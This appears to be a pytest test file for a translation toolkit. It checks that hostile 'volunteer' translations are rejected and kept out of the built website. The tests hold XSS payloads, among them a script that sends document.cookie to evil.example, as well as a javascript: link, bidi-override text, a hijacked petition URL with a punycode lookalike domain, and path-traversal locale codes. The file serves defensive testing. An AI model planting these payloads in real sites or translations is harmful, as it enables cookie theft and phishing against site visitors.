"""End to end: what a hostile "volunteer" writes never reaches a published artefact."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from reclaim_i18n.cli import cli
from reclaim_i18n.config import load_config
from reclaim_i18n.pofile import read_po, write_po

PAYLOADS = {
    # (msgctxt, msgid) of the shipped template → hostile German "translation"
    ("home/hero/cta", "Join the movement"):
        '<script>fetch("https://evil.example/?c="+document.cookie)</script>Mitmachen',
    ("home/hero/heading", "The future must be ours to shape."):
        'Die Zukunft <img src=x onerror="alert(1)"> gehört uns.',
    ("home/news/link", "Change is happening. Follow the latest news here"):
        "[Neuigkeiten](javascript:alert(1))",
    ("home/what-is/heading", "What is biometric mass surveillance?"):
        "Was ist \u202ebiometrische Massenüberwachung?",
    ("home/hero/slogan", "Reclaim our public space. Ban biometric mass surveillance!"):
        "x" * 10_000_000,
}
HIJACKED = "https://evil.example/petition"
MARKERS = ("<script", "onerror", "javascript:", "\u202e", "evil.example", "xxxxxxxxxx",
           "xn--", "раrtnering")


@pytest.fixture
def hostile(project: Path) -> Path:
    config = load_config(project)
    catalog = read_po(config.po_path("de"))
    index = catalog.index()
    for key, text in PAYLOADS.items():
        index[key].msgstr = text
    body = next(m for m in catalog.messages if m.msgctxt == "partners/join/body")
    body.msgstr = body.msgstr.replace("https://reclaimyourface.eu/partnering-document/", HIJACKED)
    contact = body.msgstr.replace("https://reclaimyourface.eu/contact/",
                                  "https://reclaimyourface.xn--e1afmkfd/contact/")
    body.msgstr = contact
    write_po(catalog, config.po_path("de"))
    return project


def test_hostile_strings_are_reported_with_file_and_line(hostile):
    result = CliRunner().invoke(cli, ["--project", str(hostile), "check", "--locale", "de"])
    assert result.exit_code == 1
    out = result.output
    for check_id in ("html-unsafe", "url-scheme", "bidi-control", "text-size", "url-allowed"):
        assert f"error[{check_id}]" in out, check_id
    assert "de/LC_MESSAGES/messages.po:" in out and "Traceback" not in out
    assert len(out) < 20_000  # bounded, even with a 10 MB string


def test_nothing_hostile_reaches_any_artefact(hostile):
    result = CliRunner().invoke(cli, ["--project", str(hostile), "build"])
    assert result.exit_code == 0, result.output
    build = hostile / "build"
    assert (build / "site" / "de" / "index.html").exists()
    for path in build.rglob("*"):
        if path.is_file():
            data = path.read_bytes().decode("utf-8", "replace")
            for marker in MARKERS:
                assert marker not in data, (path.relative_to(build), marker)
    german = (build / "site" / "de" / "index.html").read_text(encoding="utf-8")
    assert "Join the movement" in german  # the rejected button fell back to English


def test_no_file_is_written_outside_the_project(hostile, tmp_path):
    before = {p for p in tmp_path.rglob("*")}
    CliRunner().invoke(cli, ["--project", str(hostile), "all"])
    created = {p for p in tmp_path.rglob("*")} - before
    assert all(hostile in p.parents for p in created)


@pytest.mark.parametrize("code", ["../../etc", "de/../../x", "..", "de\0"])
def test_path_like_locale_codes_are_refused(project, code):
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text(encoding="utf-8").replace(
        '"sr-Latn",', f'"sr-Latn", "{code.replace(chr(0), "")}",'), encoding="utf-8")
    result = CliRunner().invoke(cli, ["--project", str(project), "update"])
    assert result.exit_code == 2 and "languages" in result.output
    result = CliRunner().invoke(cli, ["--project", str(project), "todo", code])
    assert result.exit_code == 2


def test_stray_folders_in_locales_are_ignored(project):
    evil = project / "locales" / ".." / "locales" / "xx@evil" / "LC_MESSAGES"
    evil.mkdir(parents=True)
    (evil / "messages.po").write_text("garbage", encoding="utf-8")
    result = CliRunner().invoke(cli, ["--project", str(project), "update"])
    assert result.exit_code == 0
    shutil.rmtree(project / "locales" / "xx@evil")
